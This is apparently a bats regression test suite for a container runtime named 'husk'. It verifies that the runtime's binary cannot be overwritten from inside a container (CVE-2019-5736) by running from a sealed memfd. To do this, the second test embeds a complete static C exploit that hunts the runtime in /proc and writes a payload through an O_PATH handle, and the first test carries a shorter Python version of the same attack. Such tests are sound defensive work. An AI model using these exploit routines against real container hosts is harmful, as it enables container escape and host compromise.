#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-2.0-or-later
# CVE-2019-5736: a container must not be able to overwrite the runtime's
# binary through /proc/<runtime pid>/exe.  Every test runs a COPY of the
# binary under test, so a failure damages only the copy.

load helpers

setup() {
	husk_setup
	make_bundle
	HUSK_COPY=$BATS_TEST_TMPDIR/husk-copy
	cp "$HUSK" "$HUSK_COPY"
	COPY_SUM=$(sha256sum "$HUSK_COPY" | cut -d' ' -f1)
}

hc() {
	"$HUSK_COPY" --root "$STATE_ROOT" "$@"
}

assert_copy_unchanged() {
	[ "$(sha256sum "$HUSK_COPY" | cut -d' ' -f1)" = "$COPY_SUM" ] ||
		fail "the runtime binary on the host was modified"
}

@test "selfexe: the init of a created container runs from a sealed memfd, not the host binary" {
	update_config '.process.args = ["sleep", "100"]'
	hc create --bundle "$BUNDLE" "$ID" </dev/null >/dev/null 2>&1 || fail "create failed"
	local pid
	pid=$(hc state "$ID" | jq -r .pid)
	local exe
	exe=$(readlink "/proc/$pid/exe")
	[[ "$exe" == /memfd:husk* ]] || fail "init's exe is $exe"
	# The attack in full, as root on the host (past any ptrace check): keep
	# an O_PATH handle on the exe, let the runtime go, then reopen it for
	# writing.
	run python3 - "$pid" "$STATE_ROOT" "$ID" "$HUSK_COPY" <<'EOF'
import os, subprocess, sys
pid, root, cid, husk = sys.argv[1:]
fd = os.open(f"/proc/{pid}/exe", os.O_PATH)
subprocess.run([husk, "--root", root, "delete", "--force", cid], check=True)
try:
    w = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)
except OSError as e:
    print("open failed:", e.strerror); sys.exit(0)
try:
    os.write(w, b"#!/bin/sh\necho pwned\n")
except OSError as e:
    print("write failed:", e.strerror); sys.exit(0)
print("WROTE"); sys.exit(1)
EOF
	assert_success
	refute_output --partial WROTE
	assert_copy_unchanged
}

@test "selfexe: a container process cannot overwrite the runtime via #!/proc/self/exe during exec" {
	command -v gcc >/dev/null || skip "needs gcc to build the static attacker"
	[ -f /usr/lib/x86_64-linux-gnu/libc.a ] || skip "needs libc.a (libc6-dev) for a static attacker"
	# The attacker, pid 1 of the container: catch any process whose exe
	# looks like the runtime, hold it by O_PATH, and once it is gone try to
	# write through that handle.
	cat >"$BATS_TEST_TMPDIR/attacker.c" <<'EOF'
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
int main(int argc, char **argv) {
	FILE *out; char link[512] = "", path[64]; int fd = -1, pid = 0; double t0 = now();
	signal(SIGTERM, SIG_DFL);
	while (fd < 0 && now() - t0 < 60) {
		DIR *d = opendir("/proc"); struct dirent *e;
		while (d && fd < 0 && (e = readdir(d))) {
			int p = atoi(e->d_name); ssize_t n;
			if (p <= 1 || p == getpid()) continue;
			snprintf(path, sizeof path, "/proc/%d/exe", p);
			n = readlink(path, link, sizeof link - 1);
			if (n <= 0) continue;
			link[n] = 0;
			if (!strstr(link, "husk")) continue;
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd >= 0) pid = p;
		}
		if (d) closedir(d);
	}
	out = fopen(argv[1], "w");
	if (fd < 0) { fprintf(out, "caught=none\n"); fclose(out); pause(); }
	fprintf(out, "caught=%s\n", link);
	fflush(out);
	snprintf(path, sizeof path, "/proc/%d", pid);
	while (access(path, F_OK) == 0 && now() - t0 < 60) usleep(1000);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	int w = -1;
	for (int i = 0; i < 2000 && w < 0; i++) {
		w = open(path, O_WRONLY);
		if (w < 0 && errno != ETXTBSY) break;
		if (w < 0) usleep(1000);
	}
	if (w < 0) fprintf(out, "open=%s\n", strerror(errno));
	else if (write(w, "#!/bin/sh\necho pwned\n", 21) < 0) fprintf(out, "write=%s\n", strerror(errno));
	else fprintf(out, "write=ok\n");
	fprintf(out, "done\n");
	fclose(out);
	pause();
	return 0;
}
EOF
	gcc -static -O2 -o "$BUNDLE/rootfs/attacker" "$BATS_TEST_TMPDIR/attacker.c" ||
		fail "could not build the attacker"
	printf '#!/proc/self/exe\n' >"$BUNDLE/rootfs/evil"
	chmod 755 "$BUNDLE/rootfs/evil"
	mkdir -p "$BATS_TEST_TMPDIR/out"
	# all capabilities (CAP_SYS_PTRACE included): the runtime's own
	# non-dumpable state must not be what saves it here
	local all
	all=$(jq -c '[.process.capabilities.bounding[]] + ["CAP_SYS_PTRACE","CAP_SYS_ADMIN","CAP_DAC_OVERRIDE","CAP_CHOWN","CAP_FOWNER","CAP_SETUID","CAP_SETGID"] | unique' "$BUNDLE/config.json")
	update_config ".process.args = [\"/attacker\", \"/out/report\"]
		| .process.noNewPrivileges = false
		| .process.capabilities = {\"bounding\": $all, \"permitted\": $all, \"effective\": $all}
		| .mounts += [{\"destination\": \"/out\", \"type\": \"bind\", \"source\": \"$BATS_TEST_TMPDIR/out\", \"options\": [\"rbind\", \"rw\"]}]"
	hc run -d --bundle "$BUNDLE" "$ID" </dev/null >/dev/null 2>&1 || fail "run -d failed"
	local i
	for ((i = 0; i < 50; i++)); do
		hc exec "$ID" /evil >/dev/null 2>&1 || true
		grep -q '^caught=' "$BATS_TEST_TMPDIR/out/report" 2>/dev/null && break
	done
	for ((i = 0; i < 500; i++)); do
		grep -q '^done' "$BATS_TEST_TMPDIR/out/report" 2>/dev/null && break
		sleep 0.01
	done
	local report
	report=$(cat "$BATS_TEST_TMPDIR/out/report" 2>/dev/null) || fail "the attacker wrote no report"
	echo "$report"
	grep -q '^caught=' <<<"$report" || fail "the attacker never saw the runtime: $report"
	grep -q '^done' <<<"$report" || fail "the attacker did not finish: $report"
	# what it caught was a sealed memfd, and the write through it failed
	grep -q '^caught=/memfd:husk' <<<"$report" || fail "the runtime ran from the host file: $report"
	refute grep -q '^write=ok' <<<"$report"
	assert_copy_unchanged
}

@test "selfexe: only commands that enter a container pay for the copy" {
	command -v strace >/dev/null || skip "needs strace"
	update_config '.process.args = ["sleep", "100"]'
	# no -f: the copy happens before any fork, and the init waits for start;
	# the init keeps our stdio, so strace writes to a file
	local t=$BATS_TEST_TMPDIR/strace
	strace -o "$t.create" -e trace=memfd_create,execveat \
		"$HUSK_COPY" --root "$STATE_ROOT" create --bundle "$BUNDLE" "$ID" </dev/null >/dev/null 2>&1 ||
		fail "create failed"
	grep -q 'memfd_create("husk"' "$t.create" || fail "create made no copy: $(cat "$t.create")"
	grep -q 'execveat(' "$t.create" || fail "create did not re-execute: $(cat "$t.create")"
	strace -o "$t.state" -e trace=memfd_create,execveat "$HUSK_COPY" --root "$STATE_ROOT" state "$ID" >/dev/null ||
		fail "state failed"
	! grep -q 'memfd_create("husk"' "$t.state" || fail "state made a copy"
	strace -o "$t.list" -e trace=memfd_create,execveat \
		"$HUSK_COPY" --root "$STATE_ROOT" --log /dev/null --log-format text list >/dev/null || fail "list failed"
	! grep -q 'memfd_create("husk"' "$t.list" || fail "list made a copy"
	hc delete --force "$ID"
}

@test "selfexe: a sealed copy refuses writes, shrinking and growing" {
	update_config '.process.args = ["sleep", "100"]'
	hc create --bundle "$BUNDLE" "$ID" </dev/null >/dev/null 2>&1 || fail "create failed"
	local pid
	pid=$(hc state "$ID" | jq -r .pid)
	# F_GET_SEALS (1034): seal, shrink, grow, write (0xf) all set
	run python3 -c "import fcntl, os, sys
fd = os.open('/proc/$pid/exe', os.O_RDONLY)
print(fcntl.fcntl(fd, 1034) & 0xf)"
	assert_success
	assert_output 15
	# as root on the host: the memfd is reachable but immutable
	run sh -c "printf x >> /proc/$pid/exe"
	assert_failure
	run truncate -s 0 "/proc/$pid/exe"
	assert_failure
	run dd if=/dev/zero of="/proc/$pid/exe" bs=1 count=1 conv=notrunc
	assert_failure
	hc delete --force "$ID"
	assert_copy_unchanged
}
